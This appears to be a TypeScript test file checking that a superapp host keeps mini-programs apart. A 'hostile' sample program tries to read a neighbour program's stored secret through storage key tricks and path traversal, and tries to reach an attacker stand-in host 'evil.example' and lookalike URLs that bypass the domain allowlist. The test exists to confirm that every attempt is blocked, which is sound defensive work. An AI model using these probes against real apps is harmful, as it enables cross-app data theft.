import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { browserArguments, findBrowser } from '@sampan/browser-finder'
import { serveSuperapp, type ServedSuperapp, writeProject } from '@sampan/testing'
import { type Browser, type BrowserContext, chromium } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'

const reached: string[] = []
const elsewhere = createServer((request, response) => {
  reached.push(request.url ?? '')
  response.writeHead(200, { 'Access-Control-Allow-Origin': '*' })
  response.end('{}')
})

/** Keeps a secret in every place that programs have. */
const NEIGHBOUR = `Page({ data: { told: '' }, onReady() {
  wx.setStorageSync('secret', 'of the neighbour')
  wx.getFileSystemManager().writeFileSync(wx.env.USER_DATA_PATH + '/secret.txt', 'of the neighbour', 'utf8')
  this.setData({ told: 'kept ' + wx.getStorageSync('secret') })
} })`

/** Looks for the neighbour's secret, and for servers that are not on its list. */
const HOSTILE = `
const found = []
const look = (name, run) => { try { found.push(name + '=' + JSON.stringify(run())) } catch (error) { found.push(name + '=' + error.errMsg) } }
Page({ data: { told: '' }, onReady() {
  const files = wx.getFileSystemManager()
  look('storage', () => wx.getStorageSync('secret'))
  look('keys', () => wx.getStorageInfoSync().keys)
  for (const key of ['spneighbour/secret', '../spneighbour/secret', 'spneighbour:secret']) look(key, () => wx.getStorageSync(key))
  const home = wx.env.USER_DATA_PATH
  look('files', () => files.readdirSync(home))
  for (const path of ['/secret.txt', '/../spneighbour/secret.txt', '/../../spneighbour/secret.txt', '/%2e%2e/spneighbour/secret.txt'])
    look(path, () => files.readFileSync(home + path, 'utf8'))
  const calls = { request: 'url', downloadFile: 'url', connectSocket: 'url', uploadFile: 'url' }
  const urls = ['https://evil.example/', 'ORIGIN/leak', 'https://api.example.com:8443/', 'https://api.example.com.evil.example/', 'https://api.example.com@evil.example/']
  let left = 0
  for (const url of urls) for (const name of Object.keys(calls)) {
    left++
    const target = name === 'connectSocket' ? url.replace('http', 'ws') : url
    wx[name]({ url: target, filePath: home + '/x', name: 'x',
      success: () => found.push(name + ' ' + url + '=reached'), fail: ({ errMsg }) => found.push(name + '=' + errMsg),
      complete: () => { if (--left === 0) this.setData({ told: 'done ' + found.join('\\n') }) } })
  }
} })`

let project: ReturnType<typeof writeProject>
let served: ServedSuperapp
let browser: Browser
let context: BrowserContext

beforeAll(async () => {
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  const origin = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  const listed = (appId: string) => ({
    appId,
    folder: appId,
    version: '1.0.0',
    name: { en: appId, zh: appId },
    intro: { en: appId, zh: appId },
    category: 'tools',
    colour: '#14213d',
    icon: 'icon.svg',
    domains: { request: ['https://api.example.com'] },
  })
  const program = (appId: string, script: string) => ({
    [`${appId}/app.json`]: JSON.stringify({ pages: ['index'] }),
    [`${appId}/project.config.json`]: JSON.stringify({ appid: appId }),
    [`${appId}/index.js`]: script,
    [`${appId}/index.wxml`]: '<text>{{told}}</text>',
  })
  project = writeProject({
    'icon.svg': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"></svg>',
    'programs.json': JSON.stringify({ programs: [listed('spneighbour'), listed('sphostile')] }),
    ...program('spneighbour', NEIGHBOUR),
    ...program('sphostile', HOSTILE.replaceAll('ORIGIN', origin)),
  })
  served = await serveSuperapp(['--programs', join(project.folder, 'programs.json')])
  const { path: executablePath } = await findBrowser({ install: true })
  browser = await chromium.launch({ executablePath, args: browserArguments() })
  context = await browser.newContext({ viewport: { width: 390, height: 844 } })
})

afterAll(async () => {
  await browser?.close()
  await served?.stop()
  project?.remove()
  elsewhere.closeAllConnections()
  elsewhere.close()
})

/** What the program's first page shows, once it begins with `word`. */
async function open(appId: string, word: string): Promise<string> {
  const page = await context.newPage()
  await page.goto(`${served.url}#/p/${appId}`)
  let text = ''
  await expect
    .poll(
      async () => {
        const texts = await Promise.all(
          page.frames().map((frame) => frame.evaluate(() => document.body?.innerText ?? '').catch(() => '')),
        )
        text = texts.find((shown) => shown.startsWith(word)) ?? ''
        return text
      },
      { timeout: 30_000 },
    )
    .not.toBe('')
  await page.close()
  return text
}

it('a program finds nothing that another one kept, and no server that is not on its list', async () => {
  expect(await open('spneighbour', 'kept')).toBe('kept of the neighbour')
  const told = await open('sphostile', 'done')
  expect(told).not.toContain('of the neighbour')
  expect(told).toContain('keys=[]')
  expect(told).toContain('files=[]')
  expect(told).not.toContain('reached')
  expect(told.match(/request:fail url not in domain list/g)).toHaveLength(5)
  expect(reached).toEqual([])
  expect(await open('spneighbour', 'kept')).toBe('kept of the neighbour')
})
